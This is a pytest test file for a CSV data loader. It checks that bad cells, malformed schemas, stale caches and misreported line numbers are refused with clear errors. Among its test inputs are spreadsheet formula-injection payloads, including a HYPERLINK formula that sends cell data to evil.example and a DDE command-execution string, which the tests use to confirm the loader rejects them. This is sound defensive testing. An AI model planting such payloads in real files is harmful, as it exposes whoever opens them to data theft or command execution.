"""The loader's house rules, schema checks, cache and line numbers (widgets/data.py).

Each test breaks a copy of data/ (or builds a tiny data folder of its own) and checks that the
loader refuses it with a DataError that names the file, the line and the column, and says what to
write instead. The cases come from the reliability review of December 2026 (F6 to F9).
"""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest

from tests.test_data import read_rows, write_rows
from widgets import paths
from widgets.data import DATA_DIR, DataError, load_all, load_table


@pytest.fixture
def data(tmp_path) -> Path:
    """A fresh copy of data/ that the test may break."""
    folder = tmp_path / "data"
    shutil.copytree(paths.DATA, folder)
    return folder


def set_cell(path: Path, line: int, column: str, value: str) -> None:
    """Set one cell (``line`` counts the header as line 1; the table has no multi-line cell)."""
    rows = read_rows(path)
    rows[line - 1][rows[0].index(column)] = value
    write_rows(path, rows)


def edit_schema(folder: Path, table: str, change) -> None:
    path = folder / "schema" / f"{table}.json"
    schema = json.loads(path.read_text(encoding="utf-8"))
    change(schema)
    path.write_text(json.dumps(schema, indent=2), encoding="utf-8")


def refused(table: str, folder: Path) -> str:
    with pytest.raises(DataError) as caught:
        load_table(table, folder)
    return str(caught.value)


def assert_names(message: str, file: str, line: int, column: str, *fragments: str) -> None:
    assert file in message, message
    assert f"line {line}," in message, message
    assert f"column '{column}'" in message, message
    for fragment in fragments:
        assert fragment in message, message


def test_data_dir_is_the_data_folder_of_widgets_paths():
    assert DATA_DIR == paths.DATA


# --------------------------------------------------------------------------------------------
# F6: values that other tools read differently
# --------------------------------------------------------------------------------------------

# (id, table, line, column, value, fragments of the message)
CELLS = [
    ("underscore-in-number", "scenario_parameters", 2, "value", "5_000", "ASCII digits"),
    ("arabic-indic-number", "scenario_parameters", 2, "value", "٥٠٠٠", "ASCII digits"),
    ("full-width-number", "scenario_parameters", 2, "value", "５０００", "ASCII digits"),
    ("arabic-indic-integer", "events", 2, "year", "١٩٧٣", "ASCII digits"),
    ("full-width-integer", "events", 2, "year", "１９７３", "ASCII digits"),
    ("plus-sign-number", "scenario_parameters", 2, "value", "+5000", "optional leading minus"),
    ("underflow-to-zero", "scenario_parameters", 2, "low", "1e-400", "too close to 0", "write 0"),
    ("underflow-capital-e", "scenario_parameters", 2, "low", "1E-400", "too close to 0"),
    ("subnormal", "scenario_parameters", 2, "low", "1e-310", "too close to 0"),
    (
        "impossible-day-in-pattern-column",
        "events",
        10,
        "date",
        "2025-02-30",
        "calendar",
        "February 2025 has 28 days",
    ),
    ("impossible-month-in-published", "sources", 2, "published", "2025-19-45", "no month 19"),
    ("impossible-day-in-published", "sources", 2, "published", "2025-04-31", "30 days"),
    ("arabic-digits-in-pattern", "sources", 2, "published", "٢٠٢٥", "pattern"),
    ("nul-byte", "events", 3, "summary", "Beijing\x00 sets out", "U+0000", "delete it"),
    ("bell-character", "events", 3, "summary", "Beijing\x07 sets out", "U+0007"),
    ("escape-character", "events", 3, "note", "\x1b[31mred", "U+001B"),
    ("carriage-return-in-cell", "events", 3, "note", "one, quoted\rtwo", "U+000D"),
    ("right-to-left-override", "events", 3, "summary", "Beijing \u202esets out", "U+202E"),
    ("zero-width-space-in-text", "events", 3, "title", "China\u200b policy", "U+200B"),
    ("line-break-in-key", "countries", 2, "country", "Chi\nna", "U+000A"),
    (
        "no-break-space-in-key",
        "events",
        3,
        "source",
        "lepesant\u00a02025",
        "space other than U+0020",
    ),
    ("nfd-text", "events", 3, "summary", "Re\u0301union", "NFC", "'Réunion'"),
    (
        "formula-equals",
        "events",
        3,
        "summary",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "formula",
        "reword it to start with a letter or a digit",
    ),
    ("formula-plus", "events", 3, "summary", "+cmd|' /C calc'!A0", "formula"),
    ("formula-minus", "events", 3, "note", "-2+3", "formula"),
    ("formula-at", "events", 3, "note", "@SUM(A1:A9)", "formula"),
]


@pytest.mark.parametrize(
    "table, line, column, value, fragments",
    [(c[1], c[2], c[3], c[4], c[5:]) for c in CELLS],
    ids=[c[0] for c in CELLS],
)
def test_a_cell_other_tools_read_differently_is_refused(
    data, table, line, column, value, fragments
):
    load_table(table, data)  # the untouched copy is valid
    set_cell(data / f"{table}.csv", line, column, value)
    assert_names(refused(table, data), f"{table}.csv", line, column, *fragments)


def test_negative_numbers_and_dates_of_real_calendar_still_load(data):
    set_cell(data / "places.csv", 2, "latitude", "-28.5")
    set_cell(data / "events.csv", 10, "date", "2024-02-29")  # a leap day
    set_cell(data / "sources.csv", 2, "published", "2025-11-30")
    assert load_table("places", data).loc[0, "latitude"] == -28.5
    assert "2024-02-29" in set(load_table("events", data)["date"])


def test_a_key_that_differs_only_by_an_invisible_character_is_refused(data):
    rows = read_rows(data / "countries.csv")
    china = next(r for r in rows if r[0] == "China")
    write_rows(data / "countries.csv", rows + [["China\u200b", *china[1:]]])
    message = refused("countries", data)
    assert_names(message, "countries.csv", len(rows) + 1, "country", "U+200B", "ZERO WIDTH SPACE")


def test_a_key_that_differs_only_by_normalisation_is_refused(data):
    rows = read_rows(data / "countries.csv")
    nfc = ["Réunion", "REU", "Africa", "iso3166", ""]
    nfd = ["Re\u0301union", "REU", "Africa", "iso3166", ""]
    write_rows(data / "countries.csv", rows + [nfc, nfd])
    message = refused("countries", data)
    assert_names(message, "countries.csv", len(rows) + 2, "country", "NFC")


def test_a_primary_key_cell_is_required_even_if_the_schema_does_not_say_so(data):
    def not_required(schema):
        title = next(f for f in schema["fields"] if f["name"] == "title")
        del title["constraints"]["required"]

    edit_schema(data, "events", not_required)
    set_cell(data / "events.csv", 4, "title", "")
    assert_names(refused("events", data), "events.csv", 4, "title", "required")


def test_a_table_with_only_its_header_is_refused(data):
    path = data / "scenario_presets.csv"
    path.write_text(path.read_text(encoding="utf-8").split("\n", 1)[0] + "\n", encoding="utf-8")
    message = refused("scenario_presets", data)
    assert "scenario_presets.csv, line 2" in message and "no rows" in message


# --------------------------------------------------------------------------------------------
# F7: malformed schemas raise DataError naming the schema file
# --------------------------------------------------------------------------------------------


def pk_nope(s):
    s["primaryKey"] = ["nope"]


def rule_on_missing_column(s):
    s["rowRules"] = [{"rule": "low <= nope"}]


def rule_without_operator(s):
    s["rowRules"] = [{"rule": "low == value"}]


def fk_without_fields(s):
    del s["foreignKeys"][0]["fields"]


def fk_to_missing_field(s):
    s["foreignKeys"][0]["reference"]["fields"] = "nope"


def fk_to_missing_table(s):
    s["foreignKeys"][0]["reference"]["resource"] = "nowhere"


def fk_to_field_of_other_type(s):
    s["foreignKeys"][0]["reference"] = {"resource": "events", "fields": "year"}


def fields_a_string(s):
    s["fields"] = "parameter, value"


def field_without_name(s):
    del s["fields"][0]["name"]


def field_name_a_list(s):
    s["fields"][0]["name"] = ["parameter"]


def minimum_on_string(s):
    s["fields"][0]["constraints"]["minimum"] = 0


def invalid_pattern(s):
    s["fields"][0]["constraints"]["pattern"] = "[a-z"


def misspelled_constraint(s):
    s["fields"][4]["constraints"]["maxLenght"] = 3


def unknown_schema_key(s):
    s["missingValues"] = ["", "NA"]


def required_not_boolean(s):
    s["fields"][0]["constraints"]["required"] = "yes"


def enum_of_wrong_type(s):
    s["fields"][1]["constraints"]["enum"] = [1, 2]


def constraints_a_list(s):
    s["fields"][0]["constraints"] = ["required"]


def empty_object(s):
    s.clear()


def wrong_path(s):
    s["path"] = "other.csv"


# (breaker, fragment of the message); the table is scenario_parameters
SCHEMAS = [
    (pk_nope, "'primaryKey' names field(s) 'nope'"),
    (rule_on_missing_column, "row rule 1 ('low <= nope') names field(s) 'nope'"),
    (rule_without_operator, "op one of <=, <, >=, >"),
    (fk_without_fields, "foreign key 1 has no 'fields'"),
    (fk_to_missing_field, "field 'nope', which that table lacks"),
    (fk_to_missing_table, "refers to table 'nowhere', which has no schema"),
    (fk_to_field_of_other_type, "'source' is string but 'events.year' is integer"),
    (fields_a_string, "no 'fields'"),
    (field_without_name, "a field has no 'name'"),
    (field_name_a_list, "a field has no 'name'"),
    (minimum_on_string, "'minimum' applies to integer, number and date fields, not string"),
    (invalid_pattern, "is not a valid regex"),
    (misspelled_constraint, "unknown constraint 'maxLenght'"),
    (unknown_schema_key, "unknown key 'missingValues'"),
    (required_not_boolean, "'required' must be true or false"),
    (enum_of_wrong_type, "'enum' must be a non-empty list of string values"),
    (constraints_a_list, "'constraints' must be an object"),
    (empty_object, "no 'title'"),
    (wrong_path, "'path' is 'other.csv'"),
]


@pytest.mark.parametrize("breaker, fragment", SCHEMAS, ids=[b.__name__ for b, _ in SCHEMAS])
def test_a_malformed_schema_raises_a_data_error_naming_the_schema_file(data, breaker, fragment):
    load_table("scenario_parameters", data)
    edit_schema(data, "scenario_parameters", breaker)
    message = refused("scenario_parameters", data)
    assert "schema/scenario_parameters.json" in message, message
    assert fragment in message, message


def test_a_schema_that_is_not_an_object_is_refused(data):
    (data / "schema" / "events.json").write_text("[1, 2]", encoding="utf-8")
    message = refused("events", data)
    assert "schema/events.json" in message and "must be a JSON object" in message


def test_a_row_rule_without_spaces_is_read_and_enforced(data):
    edit_schema(data, "scenario_parameters", lambda s: s.update(rowRules=[{"rule": "low<=value"}]))
    load_table("scenario_parameters", data)
    set_cell(data / "scenario_parameters.csv", 2, "low", "6000")
    assert_names(
        refused("scenario_parameters", data),
        "scenario_parameters.csv",
        2,
        "value",
        "low (6000.0) must be <= value (5000.0)",
    )


def declare_part_of(schema):
    schema["foreignKeys"].append(
        {"fields": "part_of", "reference": {"resource": "financing", "fields": "id"}}
    )


def test_a_table_may_refer_to_itself(data):
    edit_schema(data, "financing", declare_part_of)
    assert load_table("financing", data)["part_of"].notna().any()
    set_cell(data / "financing.csv", 3, "part_of", "us_nothing")
    assert_names(
        refused("financing", data),
        "financing.csv",
        3,
        "part_of",
        "'us_nothing' is not a known id of table 'financing'",
    )


def tiny_table(folder: Path, name: str, refers_to: str | None) -> None:
    """A two-column table whose 'other' column refers to table ``refers_to``'s key."""
    schema = {
        "title": name,
        "description": "a test table",
        "path": f"{name}.csv",
        "fields": [
            {"name": "key", "type": "string", "constraints": {"required": True}},
            {"name": "other", "type": "string"},
        ],
        "primaryKey": "key",
    }
    if refers_to:
        schema["foreignKeys"] = [
            {"fields": "other", "reference": {"resource": refers_to, "fields": "key"}}
        ]
    (folder / "schema").mkdir(parents=True, exist_ok=True)
    (folder / "schema" / f"{name}.json").write_text(json.dumps(schema), encoding="utf-8")
    (folder / f"{name}.csv").write_text("key,other\na,a\nb,a\n", encoding="utf-8")


def test_a_cycle_between_tables_is_refused_not_a_recursion_error(tmp_path):
    tiny_table(tmp_path, "alpha", "beta")
    tiny_table(tmp_path, "beta", "gamma")
    tiny_table(tmp_path, "gamma", "alpha")
    message = refused("alpha", tmp_path)
    assert "schema/gamma.json" in message, message  # the schema whose key closes the cycle
    assert "cycle of references between tables (alpha -> beta -> gamma -> alpha)" in message
    for table in ("beta", "gamma"):
        assert "cycle of references" in refused(table, tmp_path)


def test_tables_that_share_a_target_are_no_cycle(tmp_path):
    tiny_table(tmp_path, "base", None)
    tiny_table(tmp_path, "left", "base")
    tiny_table(tmp_path, "right", "base")
    tiny_table(tmp_path, "top", "left")
    assert set(load_all(tmp_path)) == {"base", "left", "right", "top"}


# --------------------------------------------------------------------------------------------
# F8: the cache never returns a stale validation
# --------------------------------------------------------------------------------------------


def test_the_cache_sees_a_change_in_a_referenced_table(data):
    load_table("scenario_parameters", data)
    rows = read_rows(data / "sources.csv")
    write_rows(data / "sources.csv", [r for r in rows if r[0] != "caremag2025"])
    message = refused("scenario_parameters", data)
    assert "'caremag2025' is not a known source of table 'sources'" in message


def test_the_cache_sees_a_change_in_a_referenced_tables_schema(data):
    load_table("events", data)
    edit_schema(data, "sources", lambda s: s["fields"][2]["constraints"].update(maxLength=3))
    message = refused("events", data)
    assert "sources.csv" in message and "longer than 3" in message


def test_the_cache_sees_an_edit_that_keeps_size_and_mtime(data):
    path = data / "scenario_parameters.csv"
    assert load_table("scenario_parameters", data).loc[0, "value"] == 5000
    before = path.stat()
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace(",5000,", ",6000,", 1), encoding="utf-8")
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert path.stat().st_size == before.st_size and path.stat().st_mtime_ns == before.st_mtime_ns
    assert load_table("scenario_parameters", data).loc[0, "value"] == 6000


def test_the_cache_sees_a_schema_edit_that_keeps_size_and_mtime(data):
    path = data / "schema" / "scenario_parameters.json"
    load_table("scenario_parameters", data)
    before = path.stat()
    path.write_text(
        path.read_text(encoding="utf-8").replace('"minimum": 0', '"minimum": 9', 1),
        encoding="utf-8",
    )
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert "below the minimum 9" in refused("scenario_parameters", data)


# --------------------------------------------------------------------------------------------
# F9: line numbers are physical lines, also after a multi-line cell
# --------------------------------------------------------------------------------------------


@pytest.fixture
def multiline(data) -> Path:
    """scenario_parameters with a 4-line note on data row 1 (file lines 2 to 5)."""
    set_cell(data / "scenario_parameters.csv", 2, "note", "one\ntwo\nthree\nfour")
    assert len(load_table("scenario_parameters", data)) > 1  # a line break in a note is fine
    return data


@pytest.mark.parametrize(
    "row, column, value, line",
    [
        (2, "unit", "t per yr" * 9, 2),  # before the note: on the record's first line
        (3, "unit", "t per yr" * 9, 6),  # the next record starts on line 6
        (4, "unit", "t per yr" * 9, 7),
    ],
)
def test_an_error_after_a_multi_line_cell_names_its_physical_line(
    multiline, row, column, value, line
):
    set_cell(multiline / "scenario_parameters.csv", row, column, value)
    assert_names(refused("scenario_parameters", multiline), "scenario_parameters.csv", line, column)


def test_a_foreign_key_error_after_a_multi_line_cell_names_its_physical_line(multiline):
    set_cell(multiline / "scenario_parameters.csv", 3, "source", "nobody2099")
    assert_names(
        refused("scenario_parameters", multiline),
        "scenario_parameters.csv",
        6,
        "source",
        "not a known source",
    )


def test_a_duplicate_after_a_multi_line_cell_names_both_physical_lines(multiline):
    rows = read_rows(multiline / "scenario_parameters.csv")
    write_rows(multiline / "scenario_parameters.csv", rows + [rows[1]])
    message = refused("scenario_parameters", multiline)
    # record 1 fills lines 2-5, record k >= 2 is on line 4 + k; the copy is record len(rows)
    assert f"line {4 + len(rows)}, column 'parameter, importer, element_group'" in message, message
    assert "already on line 2" in message


def test_a_short_row_after_a_multi_line_cell_names_its_physical_line(multiline):
    rows = read_rows(multiline / "scenario_parameters.csv")
    rows[2] = rows[2][:5]
    write_rows(multiline / "scenario_parameters.csv", rows)
    assert_names(
        refused("scenario_parameters", multiline),
        "scenario_parameters.csv",
        6,
        "low",
        "5 cells where the header has 10",
    )


@pytest.mark.parametrize(
    "value, code",
    [
        ("two\u2028lines", "U+2028"),
        ("private \ue000 use", "U+E000"),
        ("unassigned \u0378", "U+0378"),
    ],
)
def test_separators_private_and_unassigned_characters_are_refused(data, value, code):
    set_cell(data / "events.csv", 3, "note", value)
    assert_names(refused("events", data), "events.csv", 3, "note", code, "delete it")


def test_spaces_other_than_u0020_are_fine_outside_keys(data):
    set_cell(data / "events.csv", 3, "note", "cited 6\u202fNov 2025, see p.\u00a03")
    assert "cited 6\u202fNov 2025, see p.\u00a03" in set(load_table("events", data)["note"])
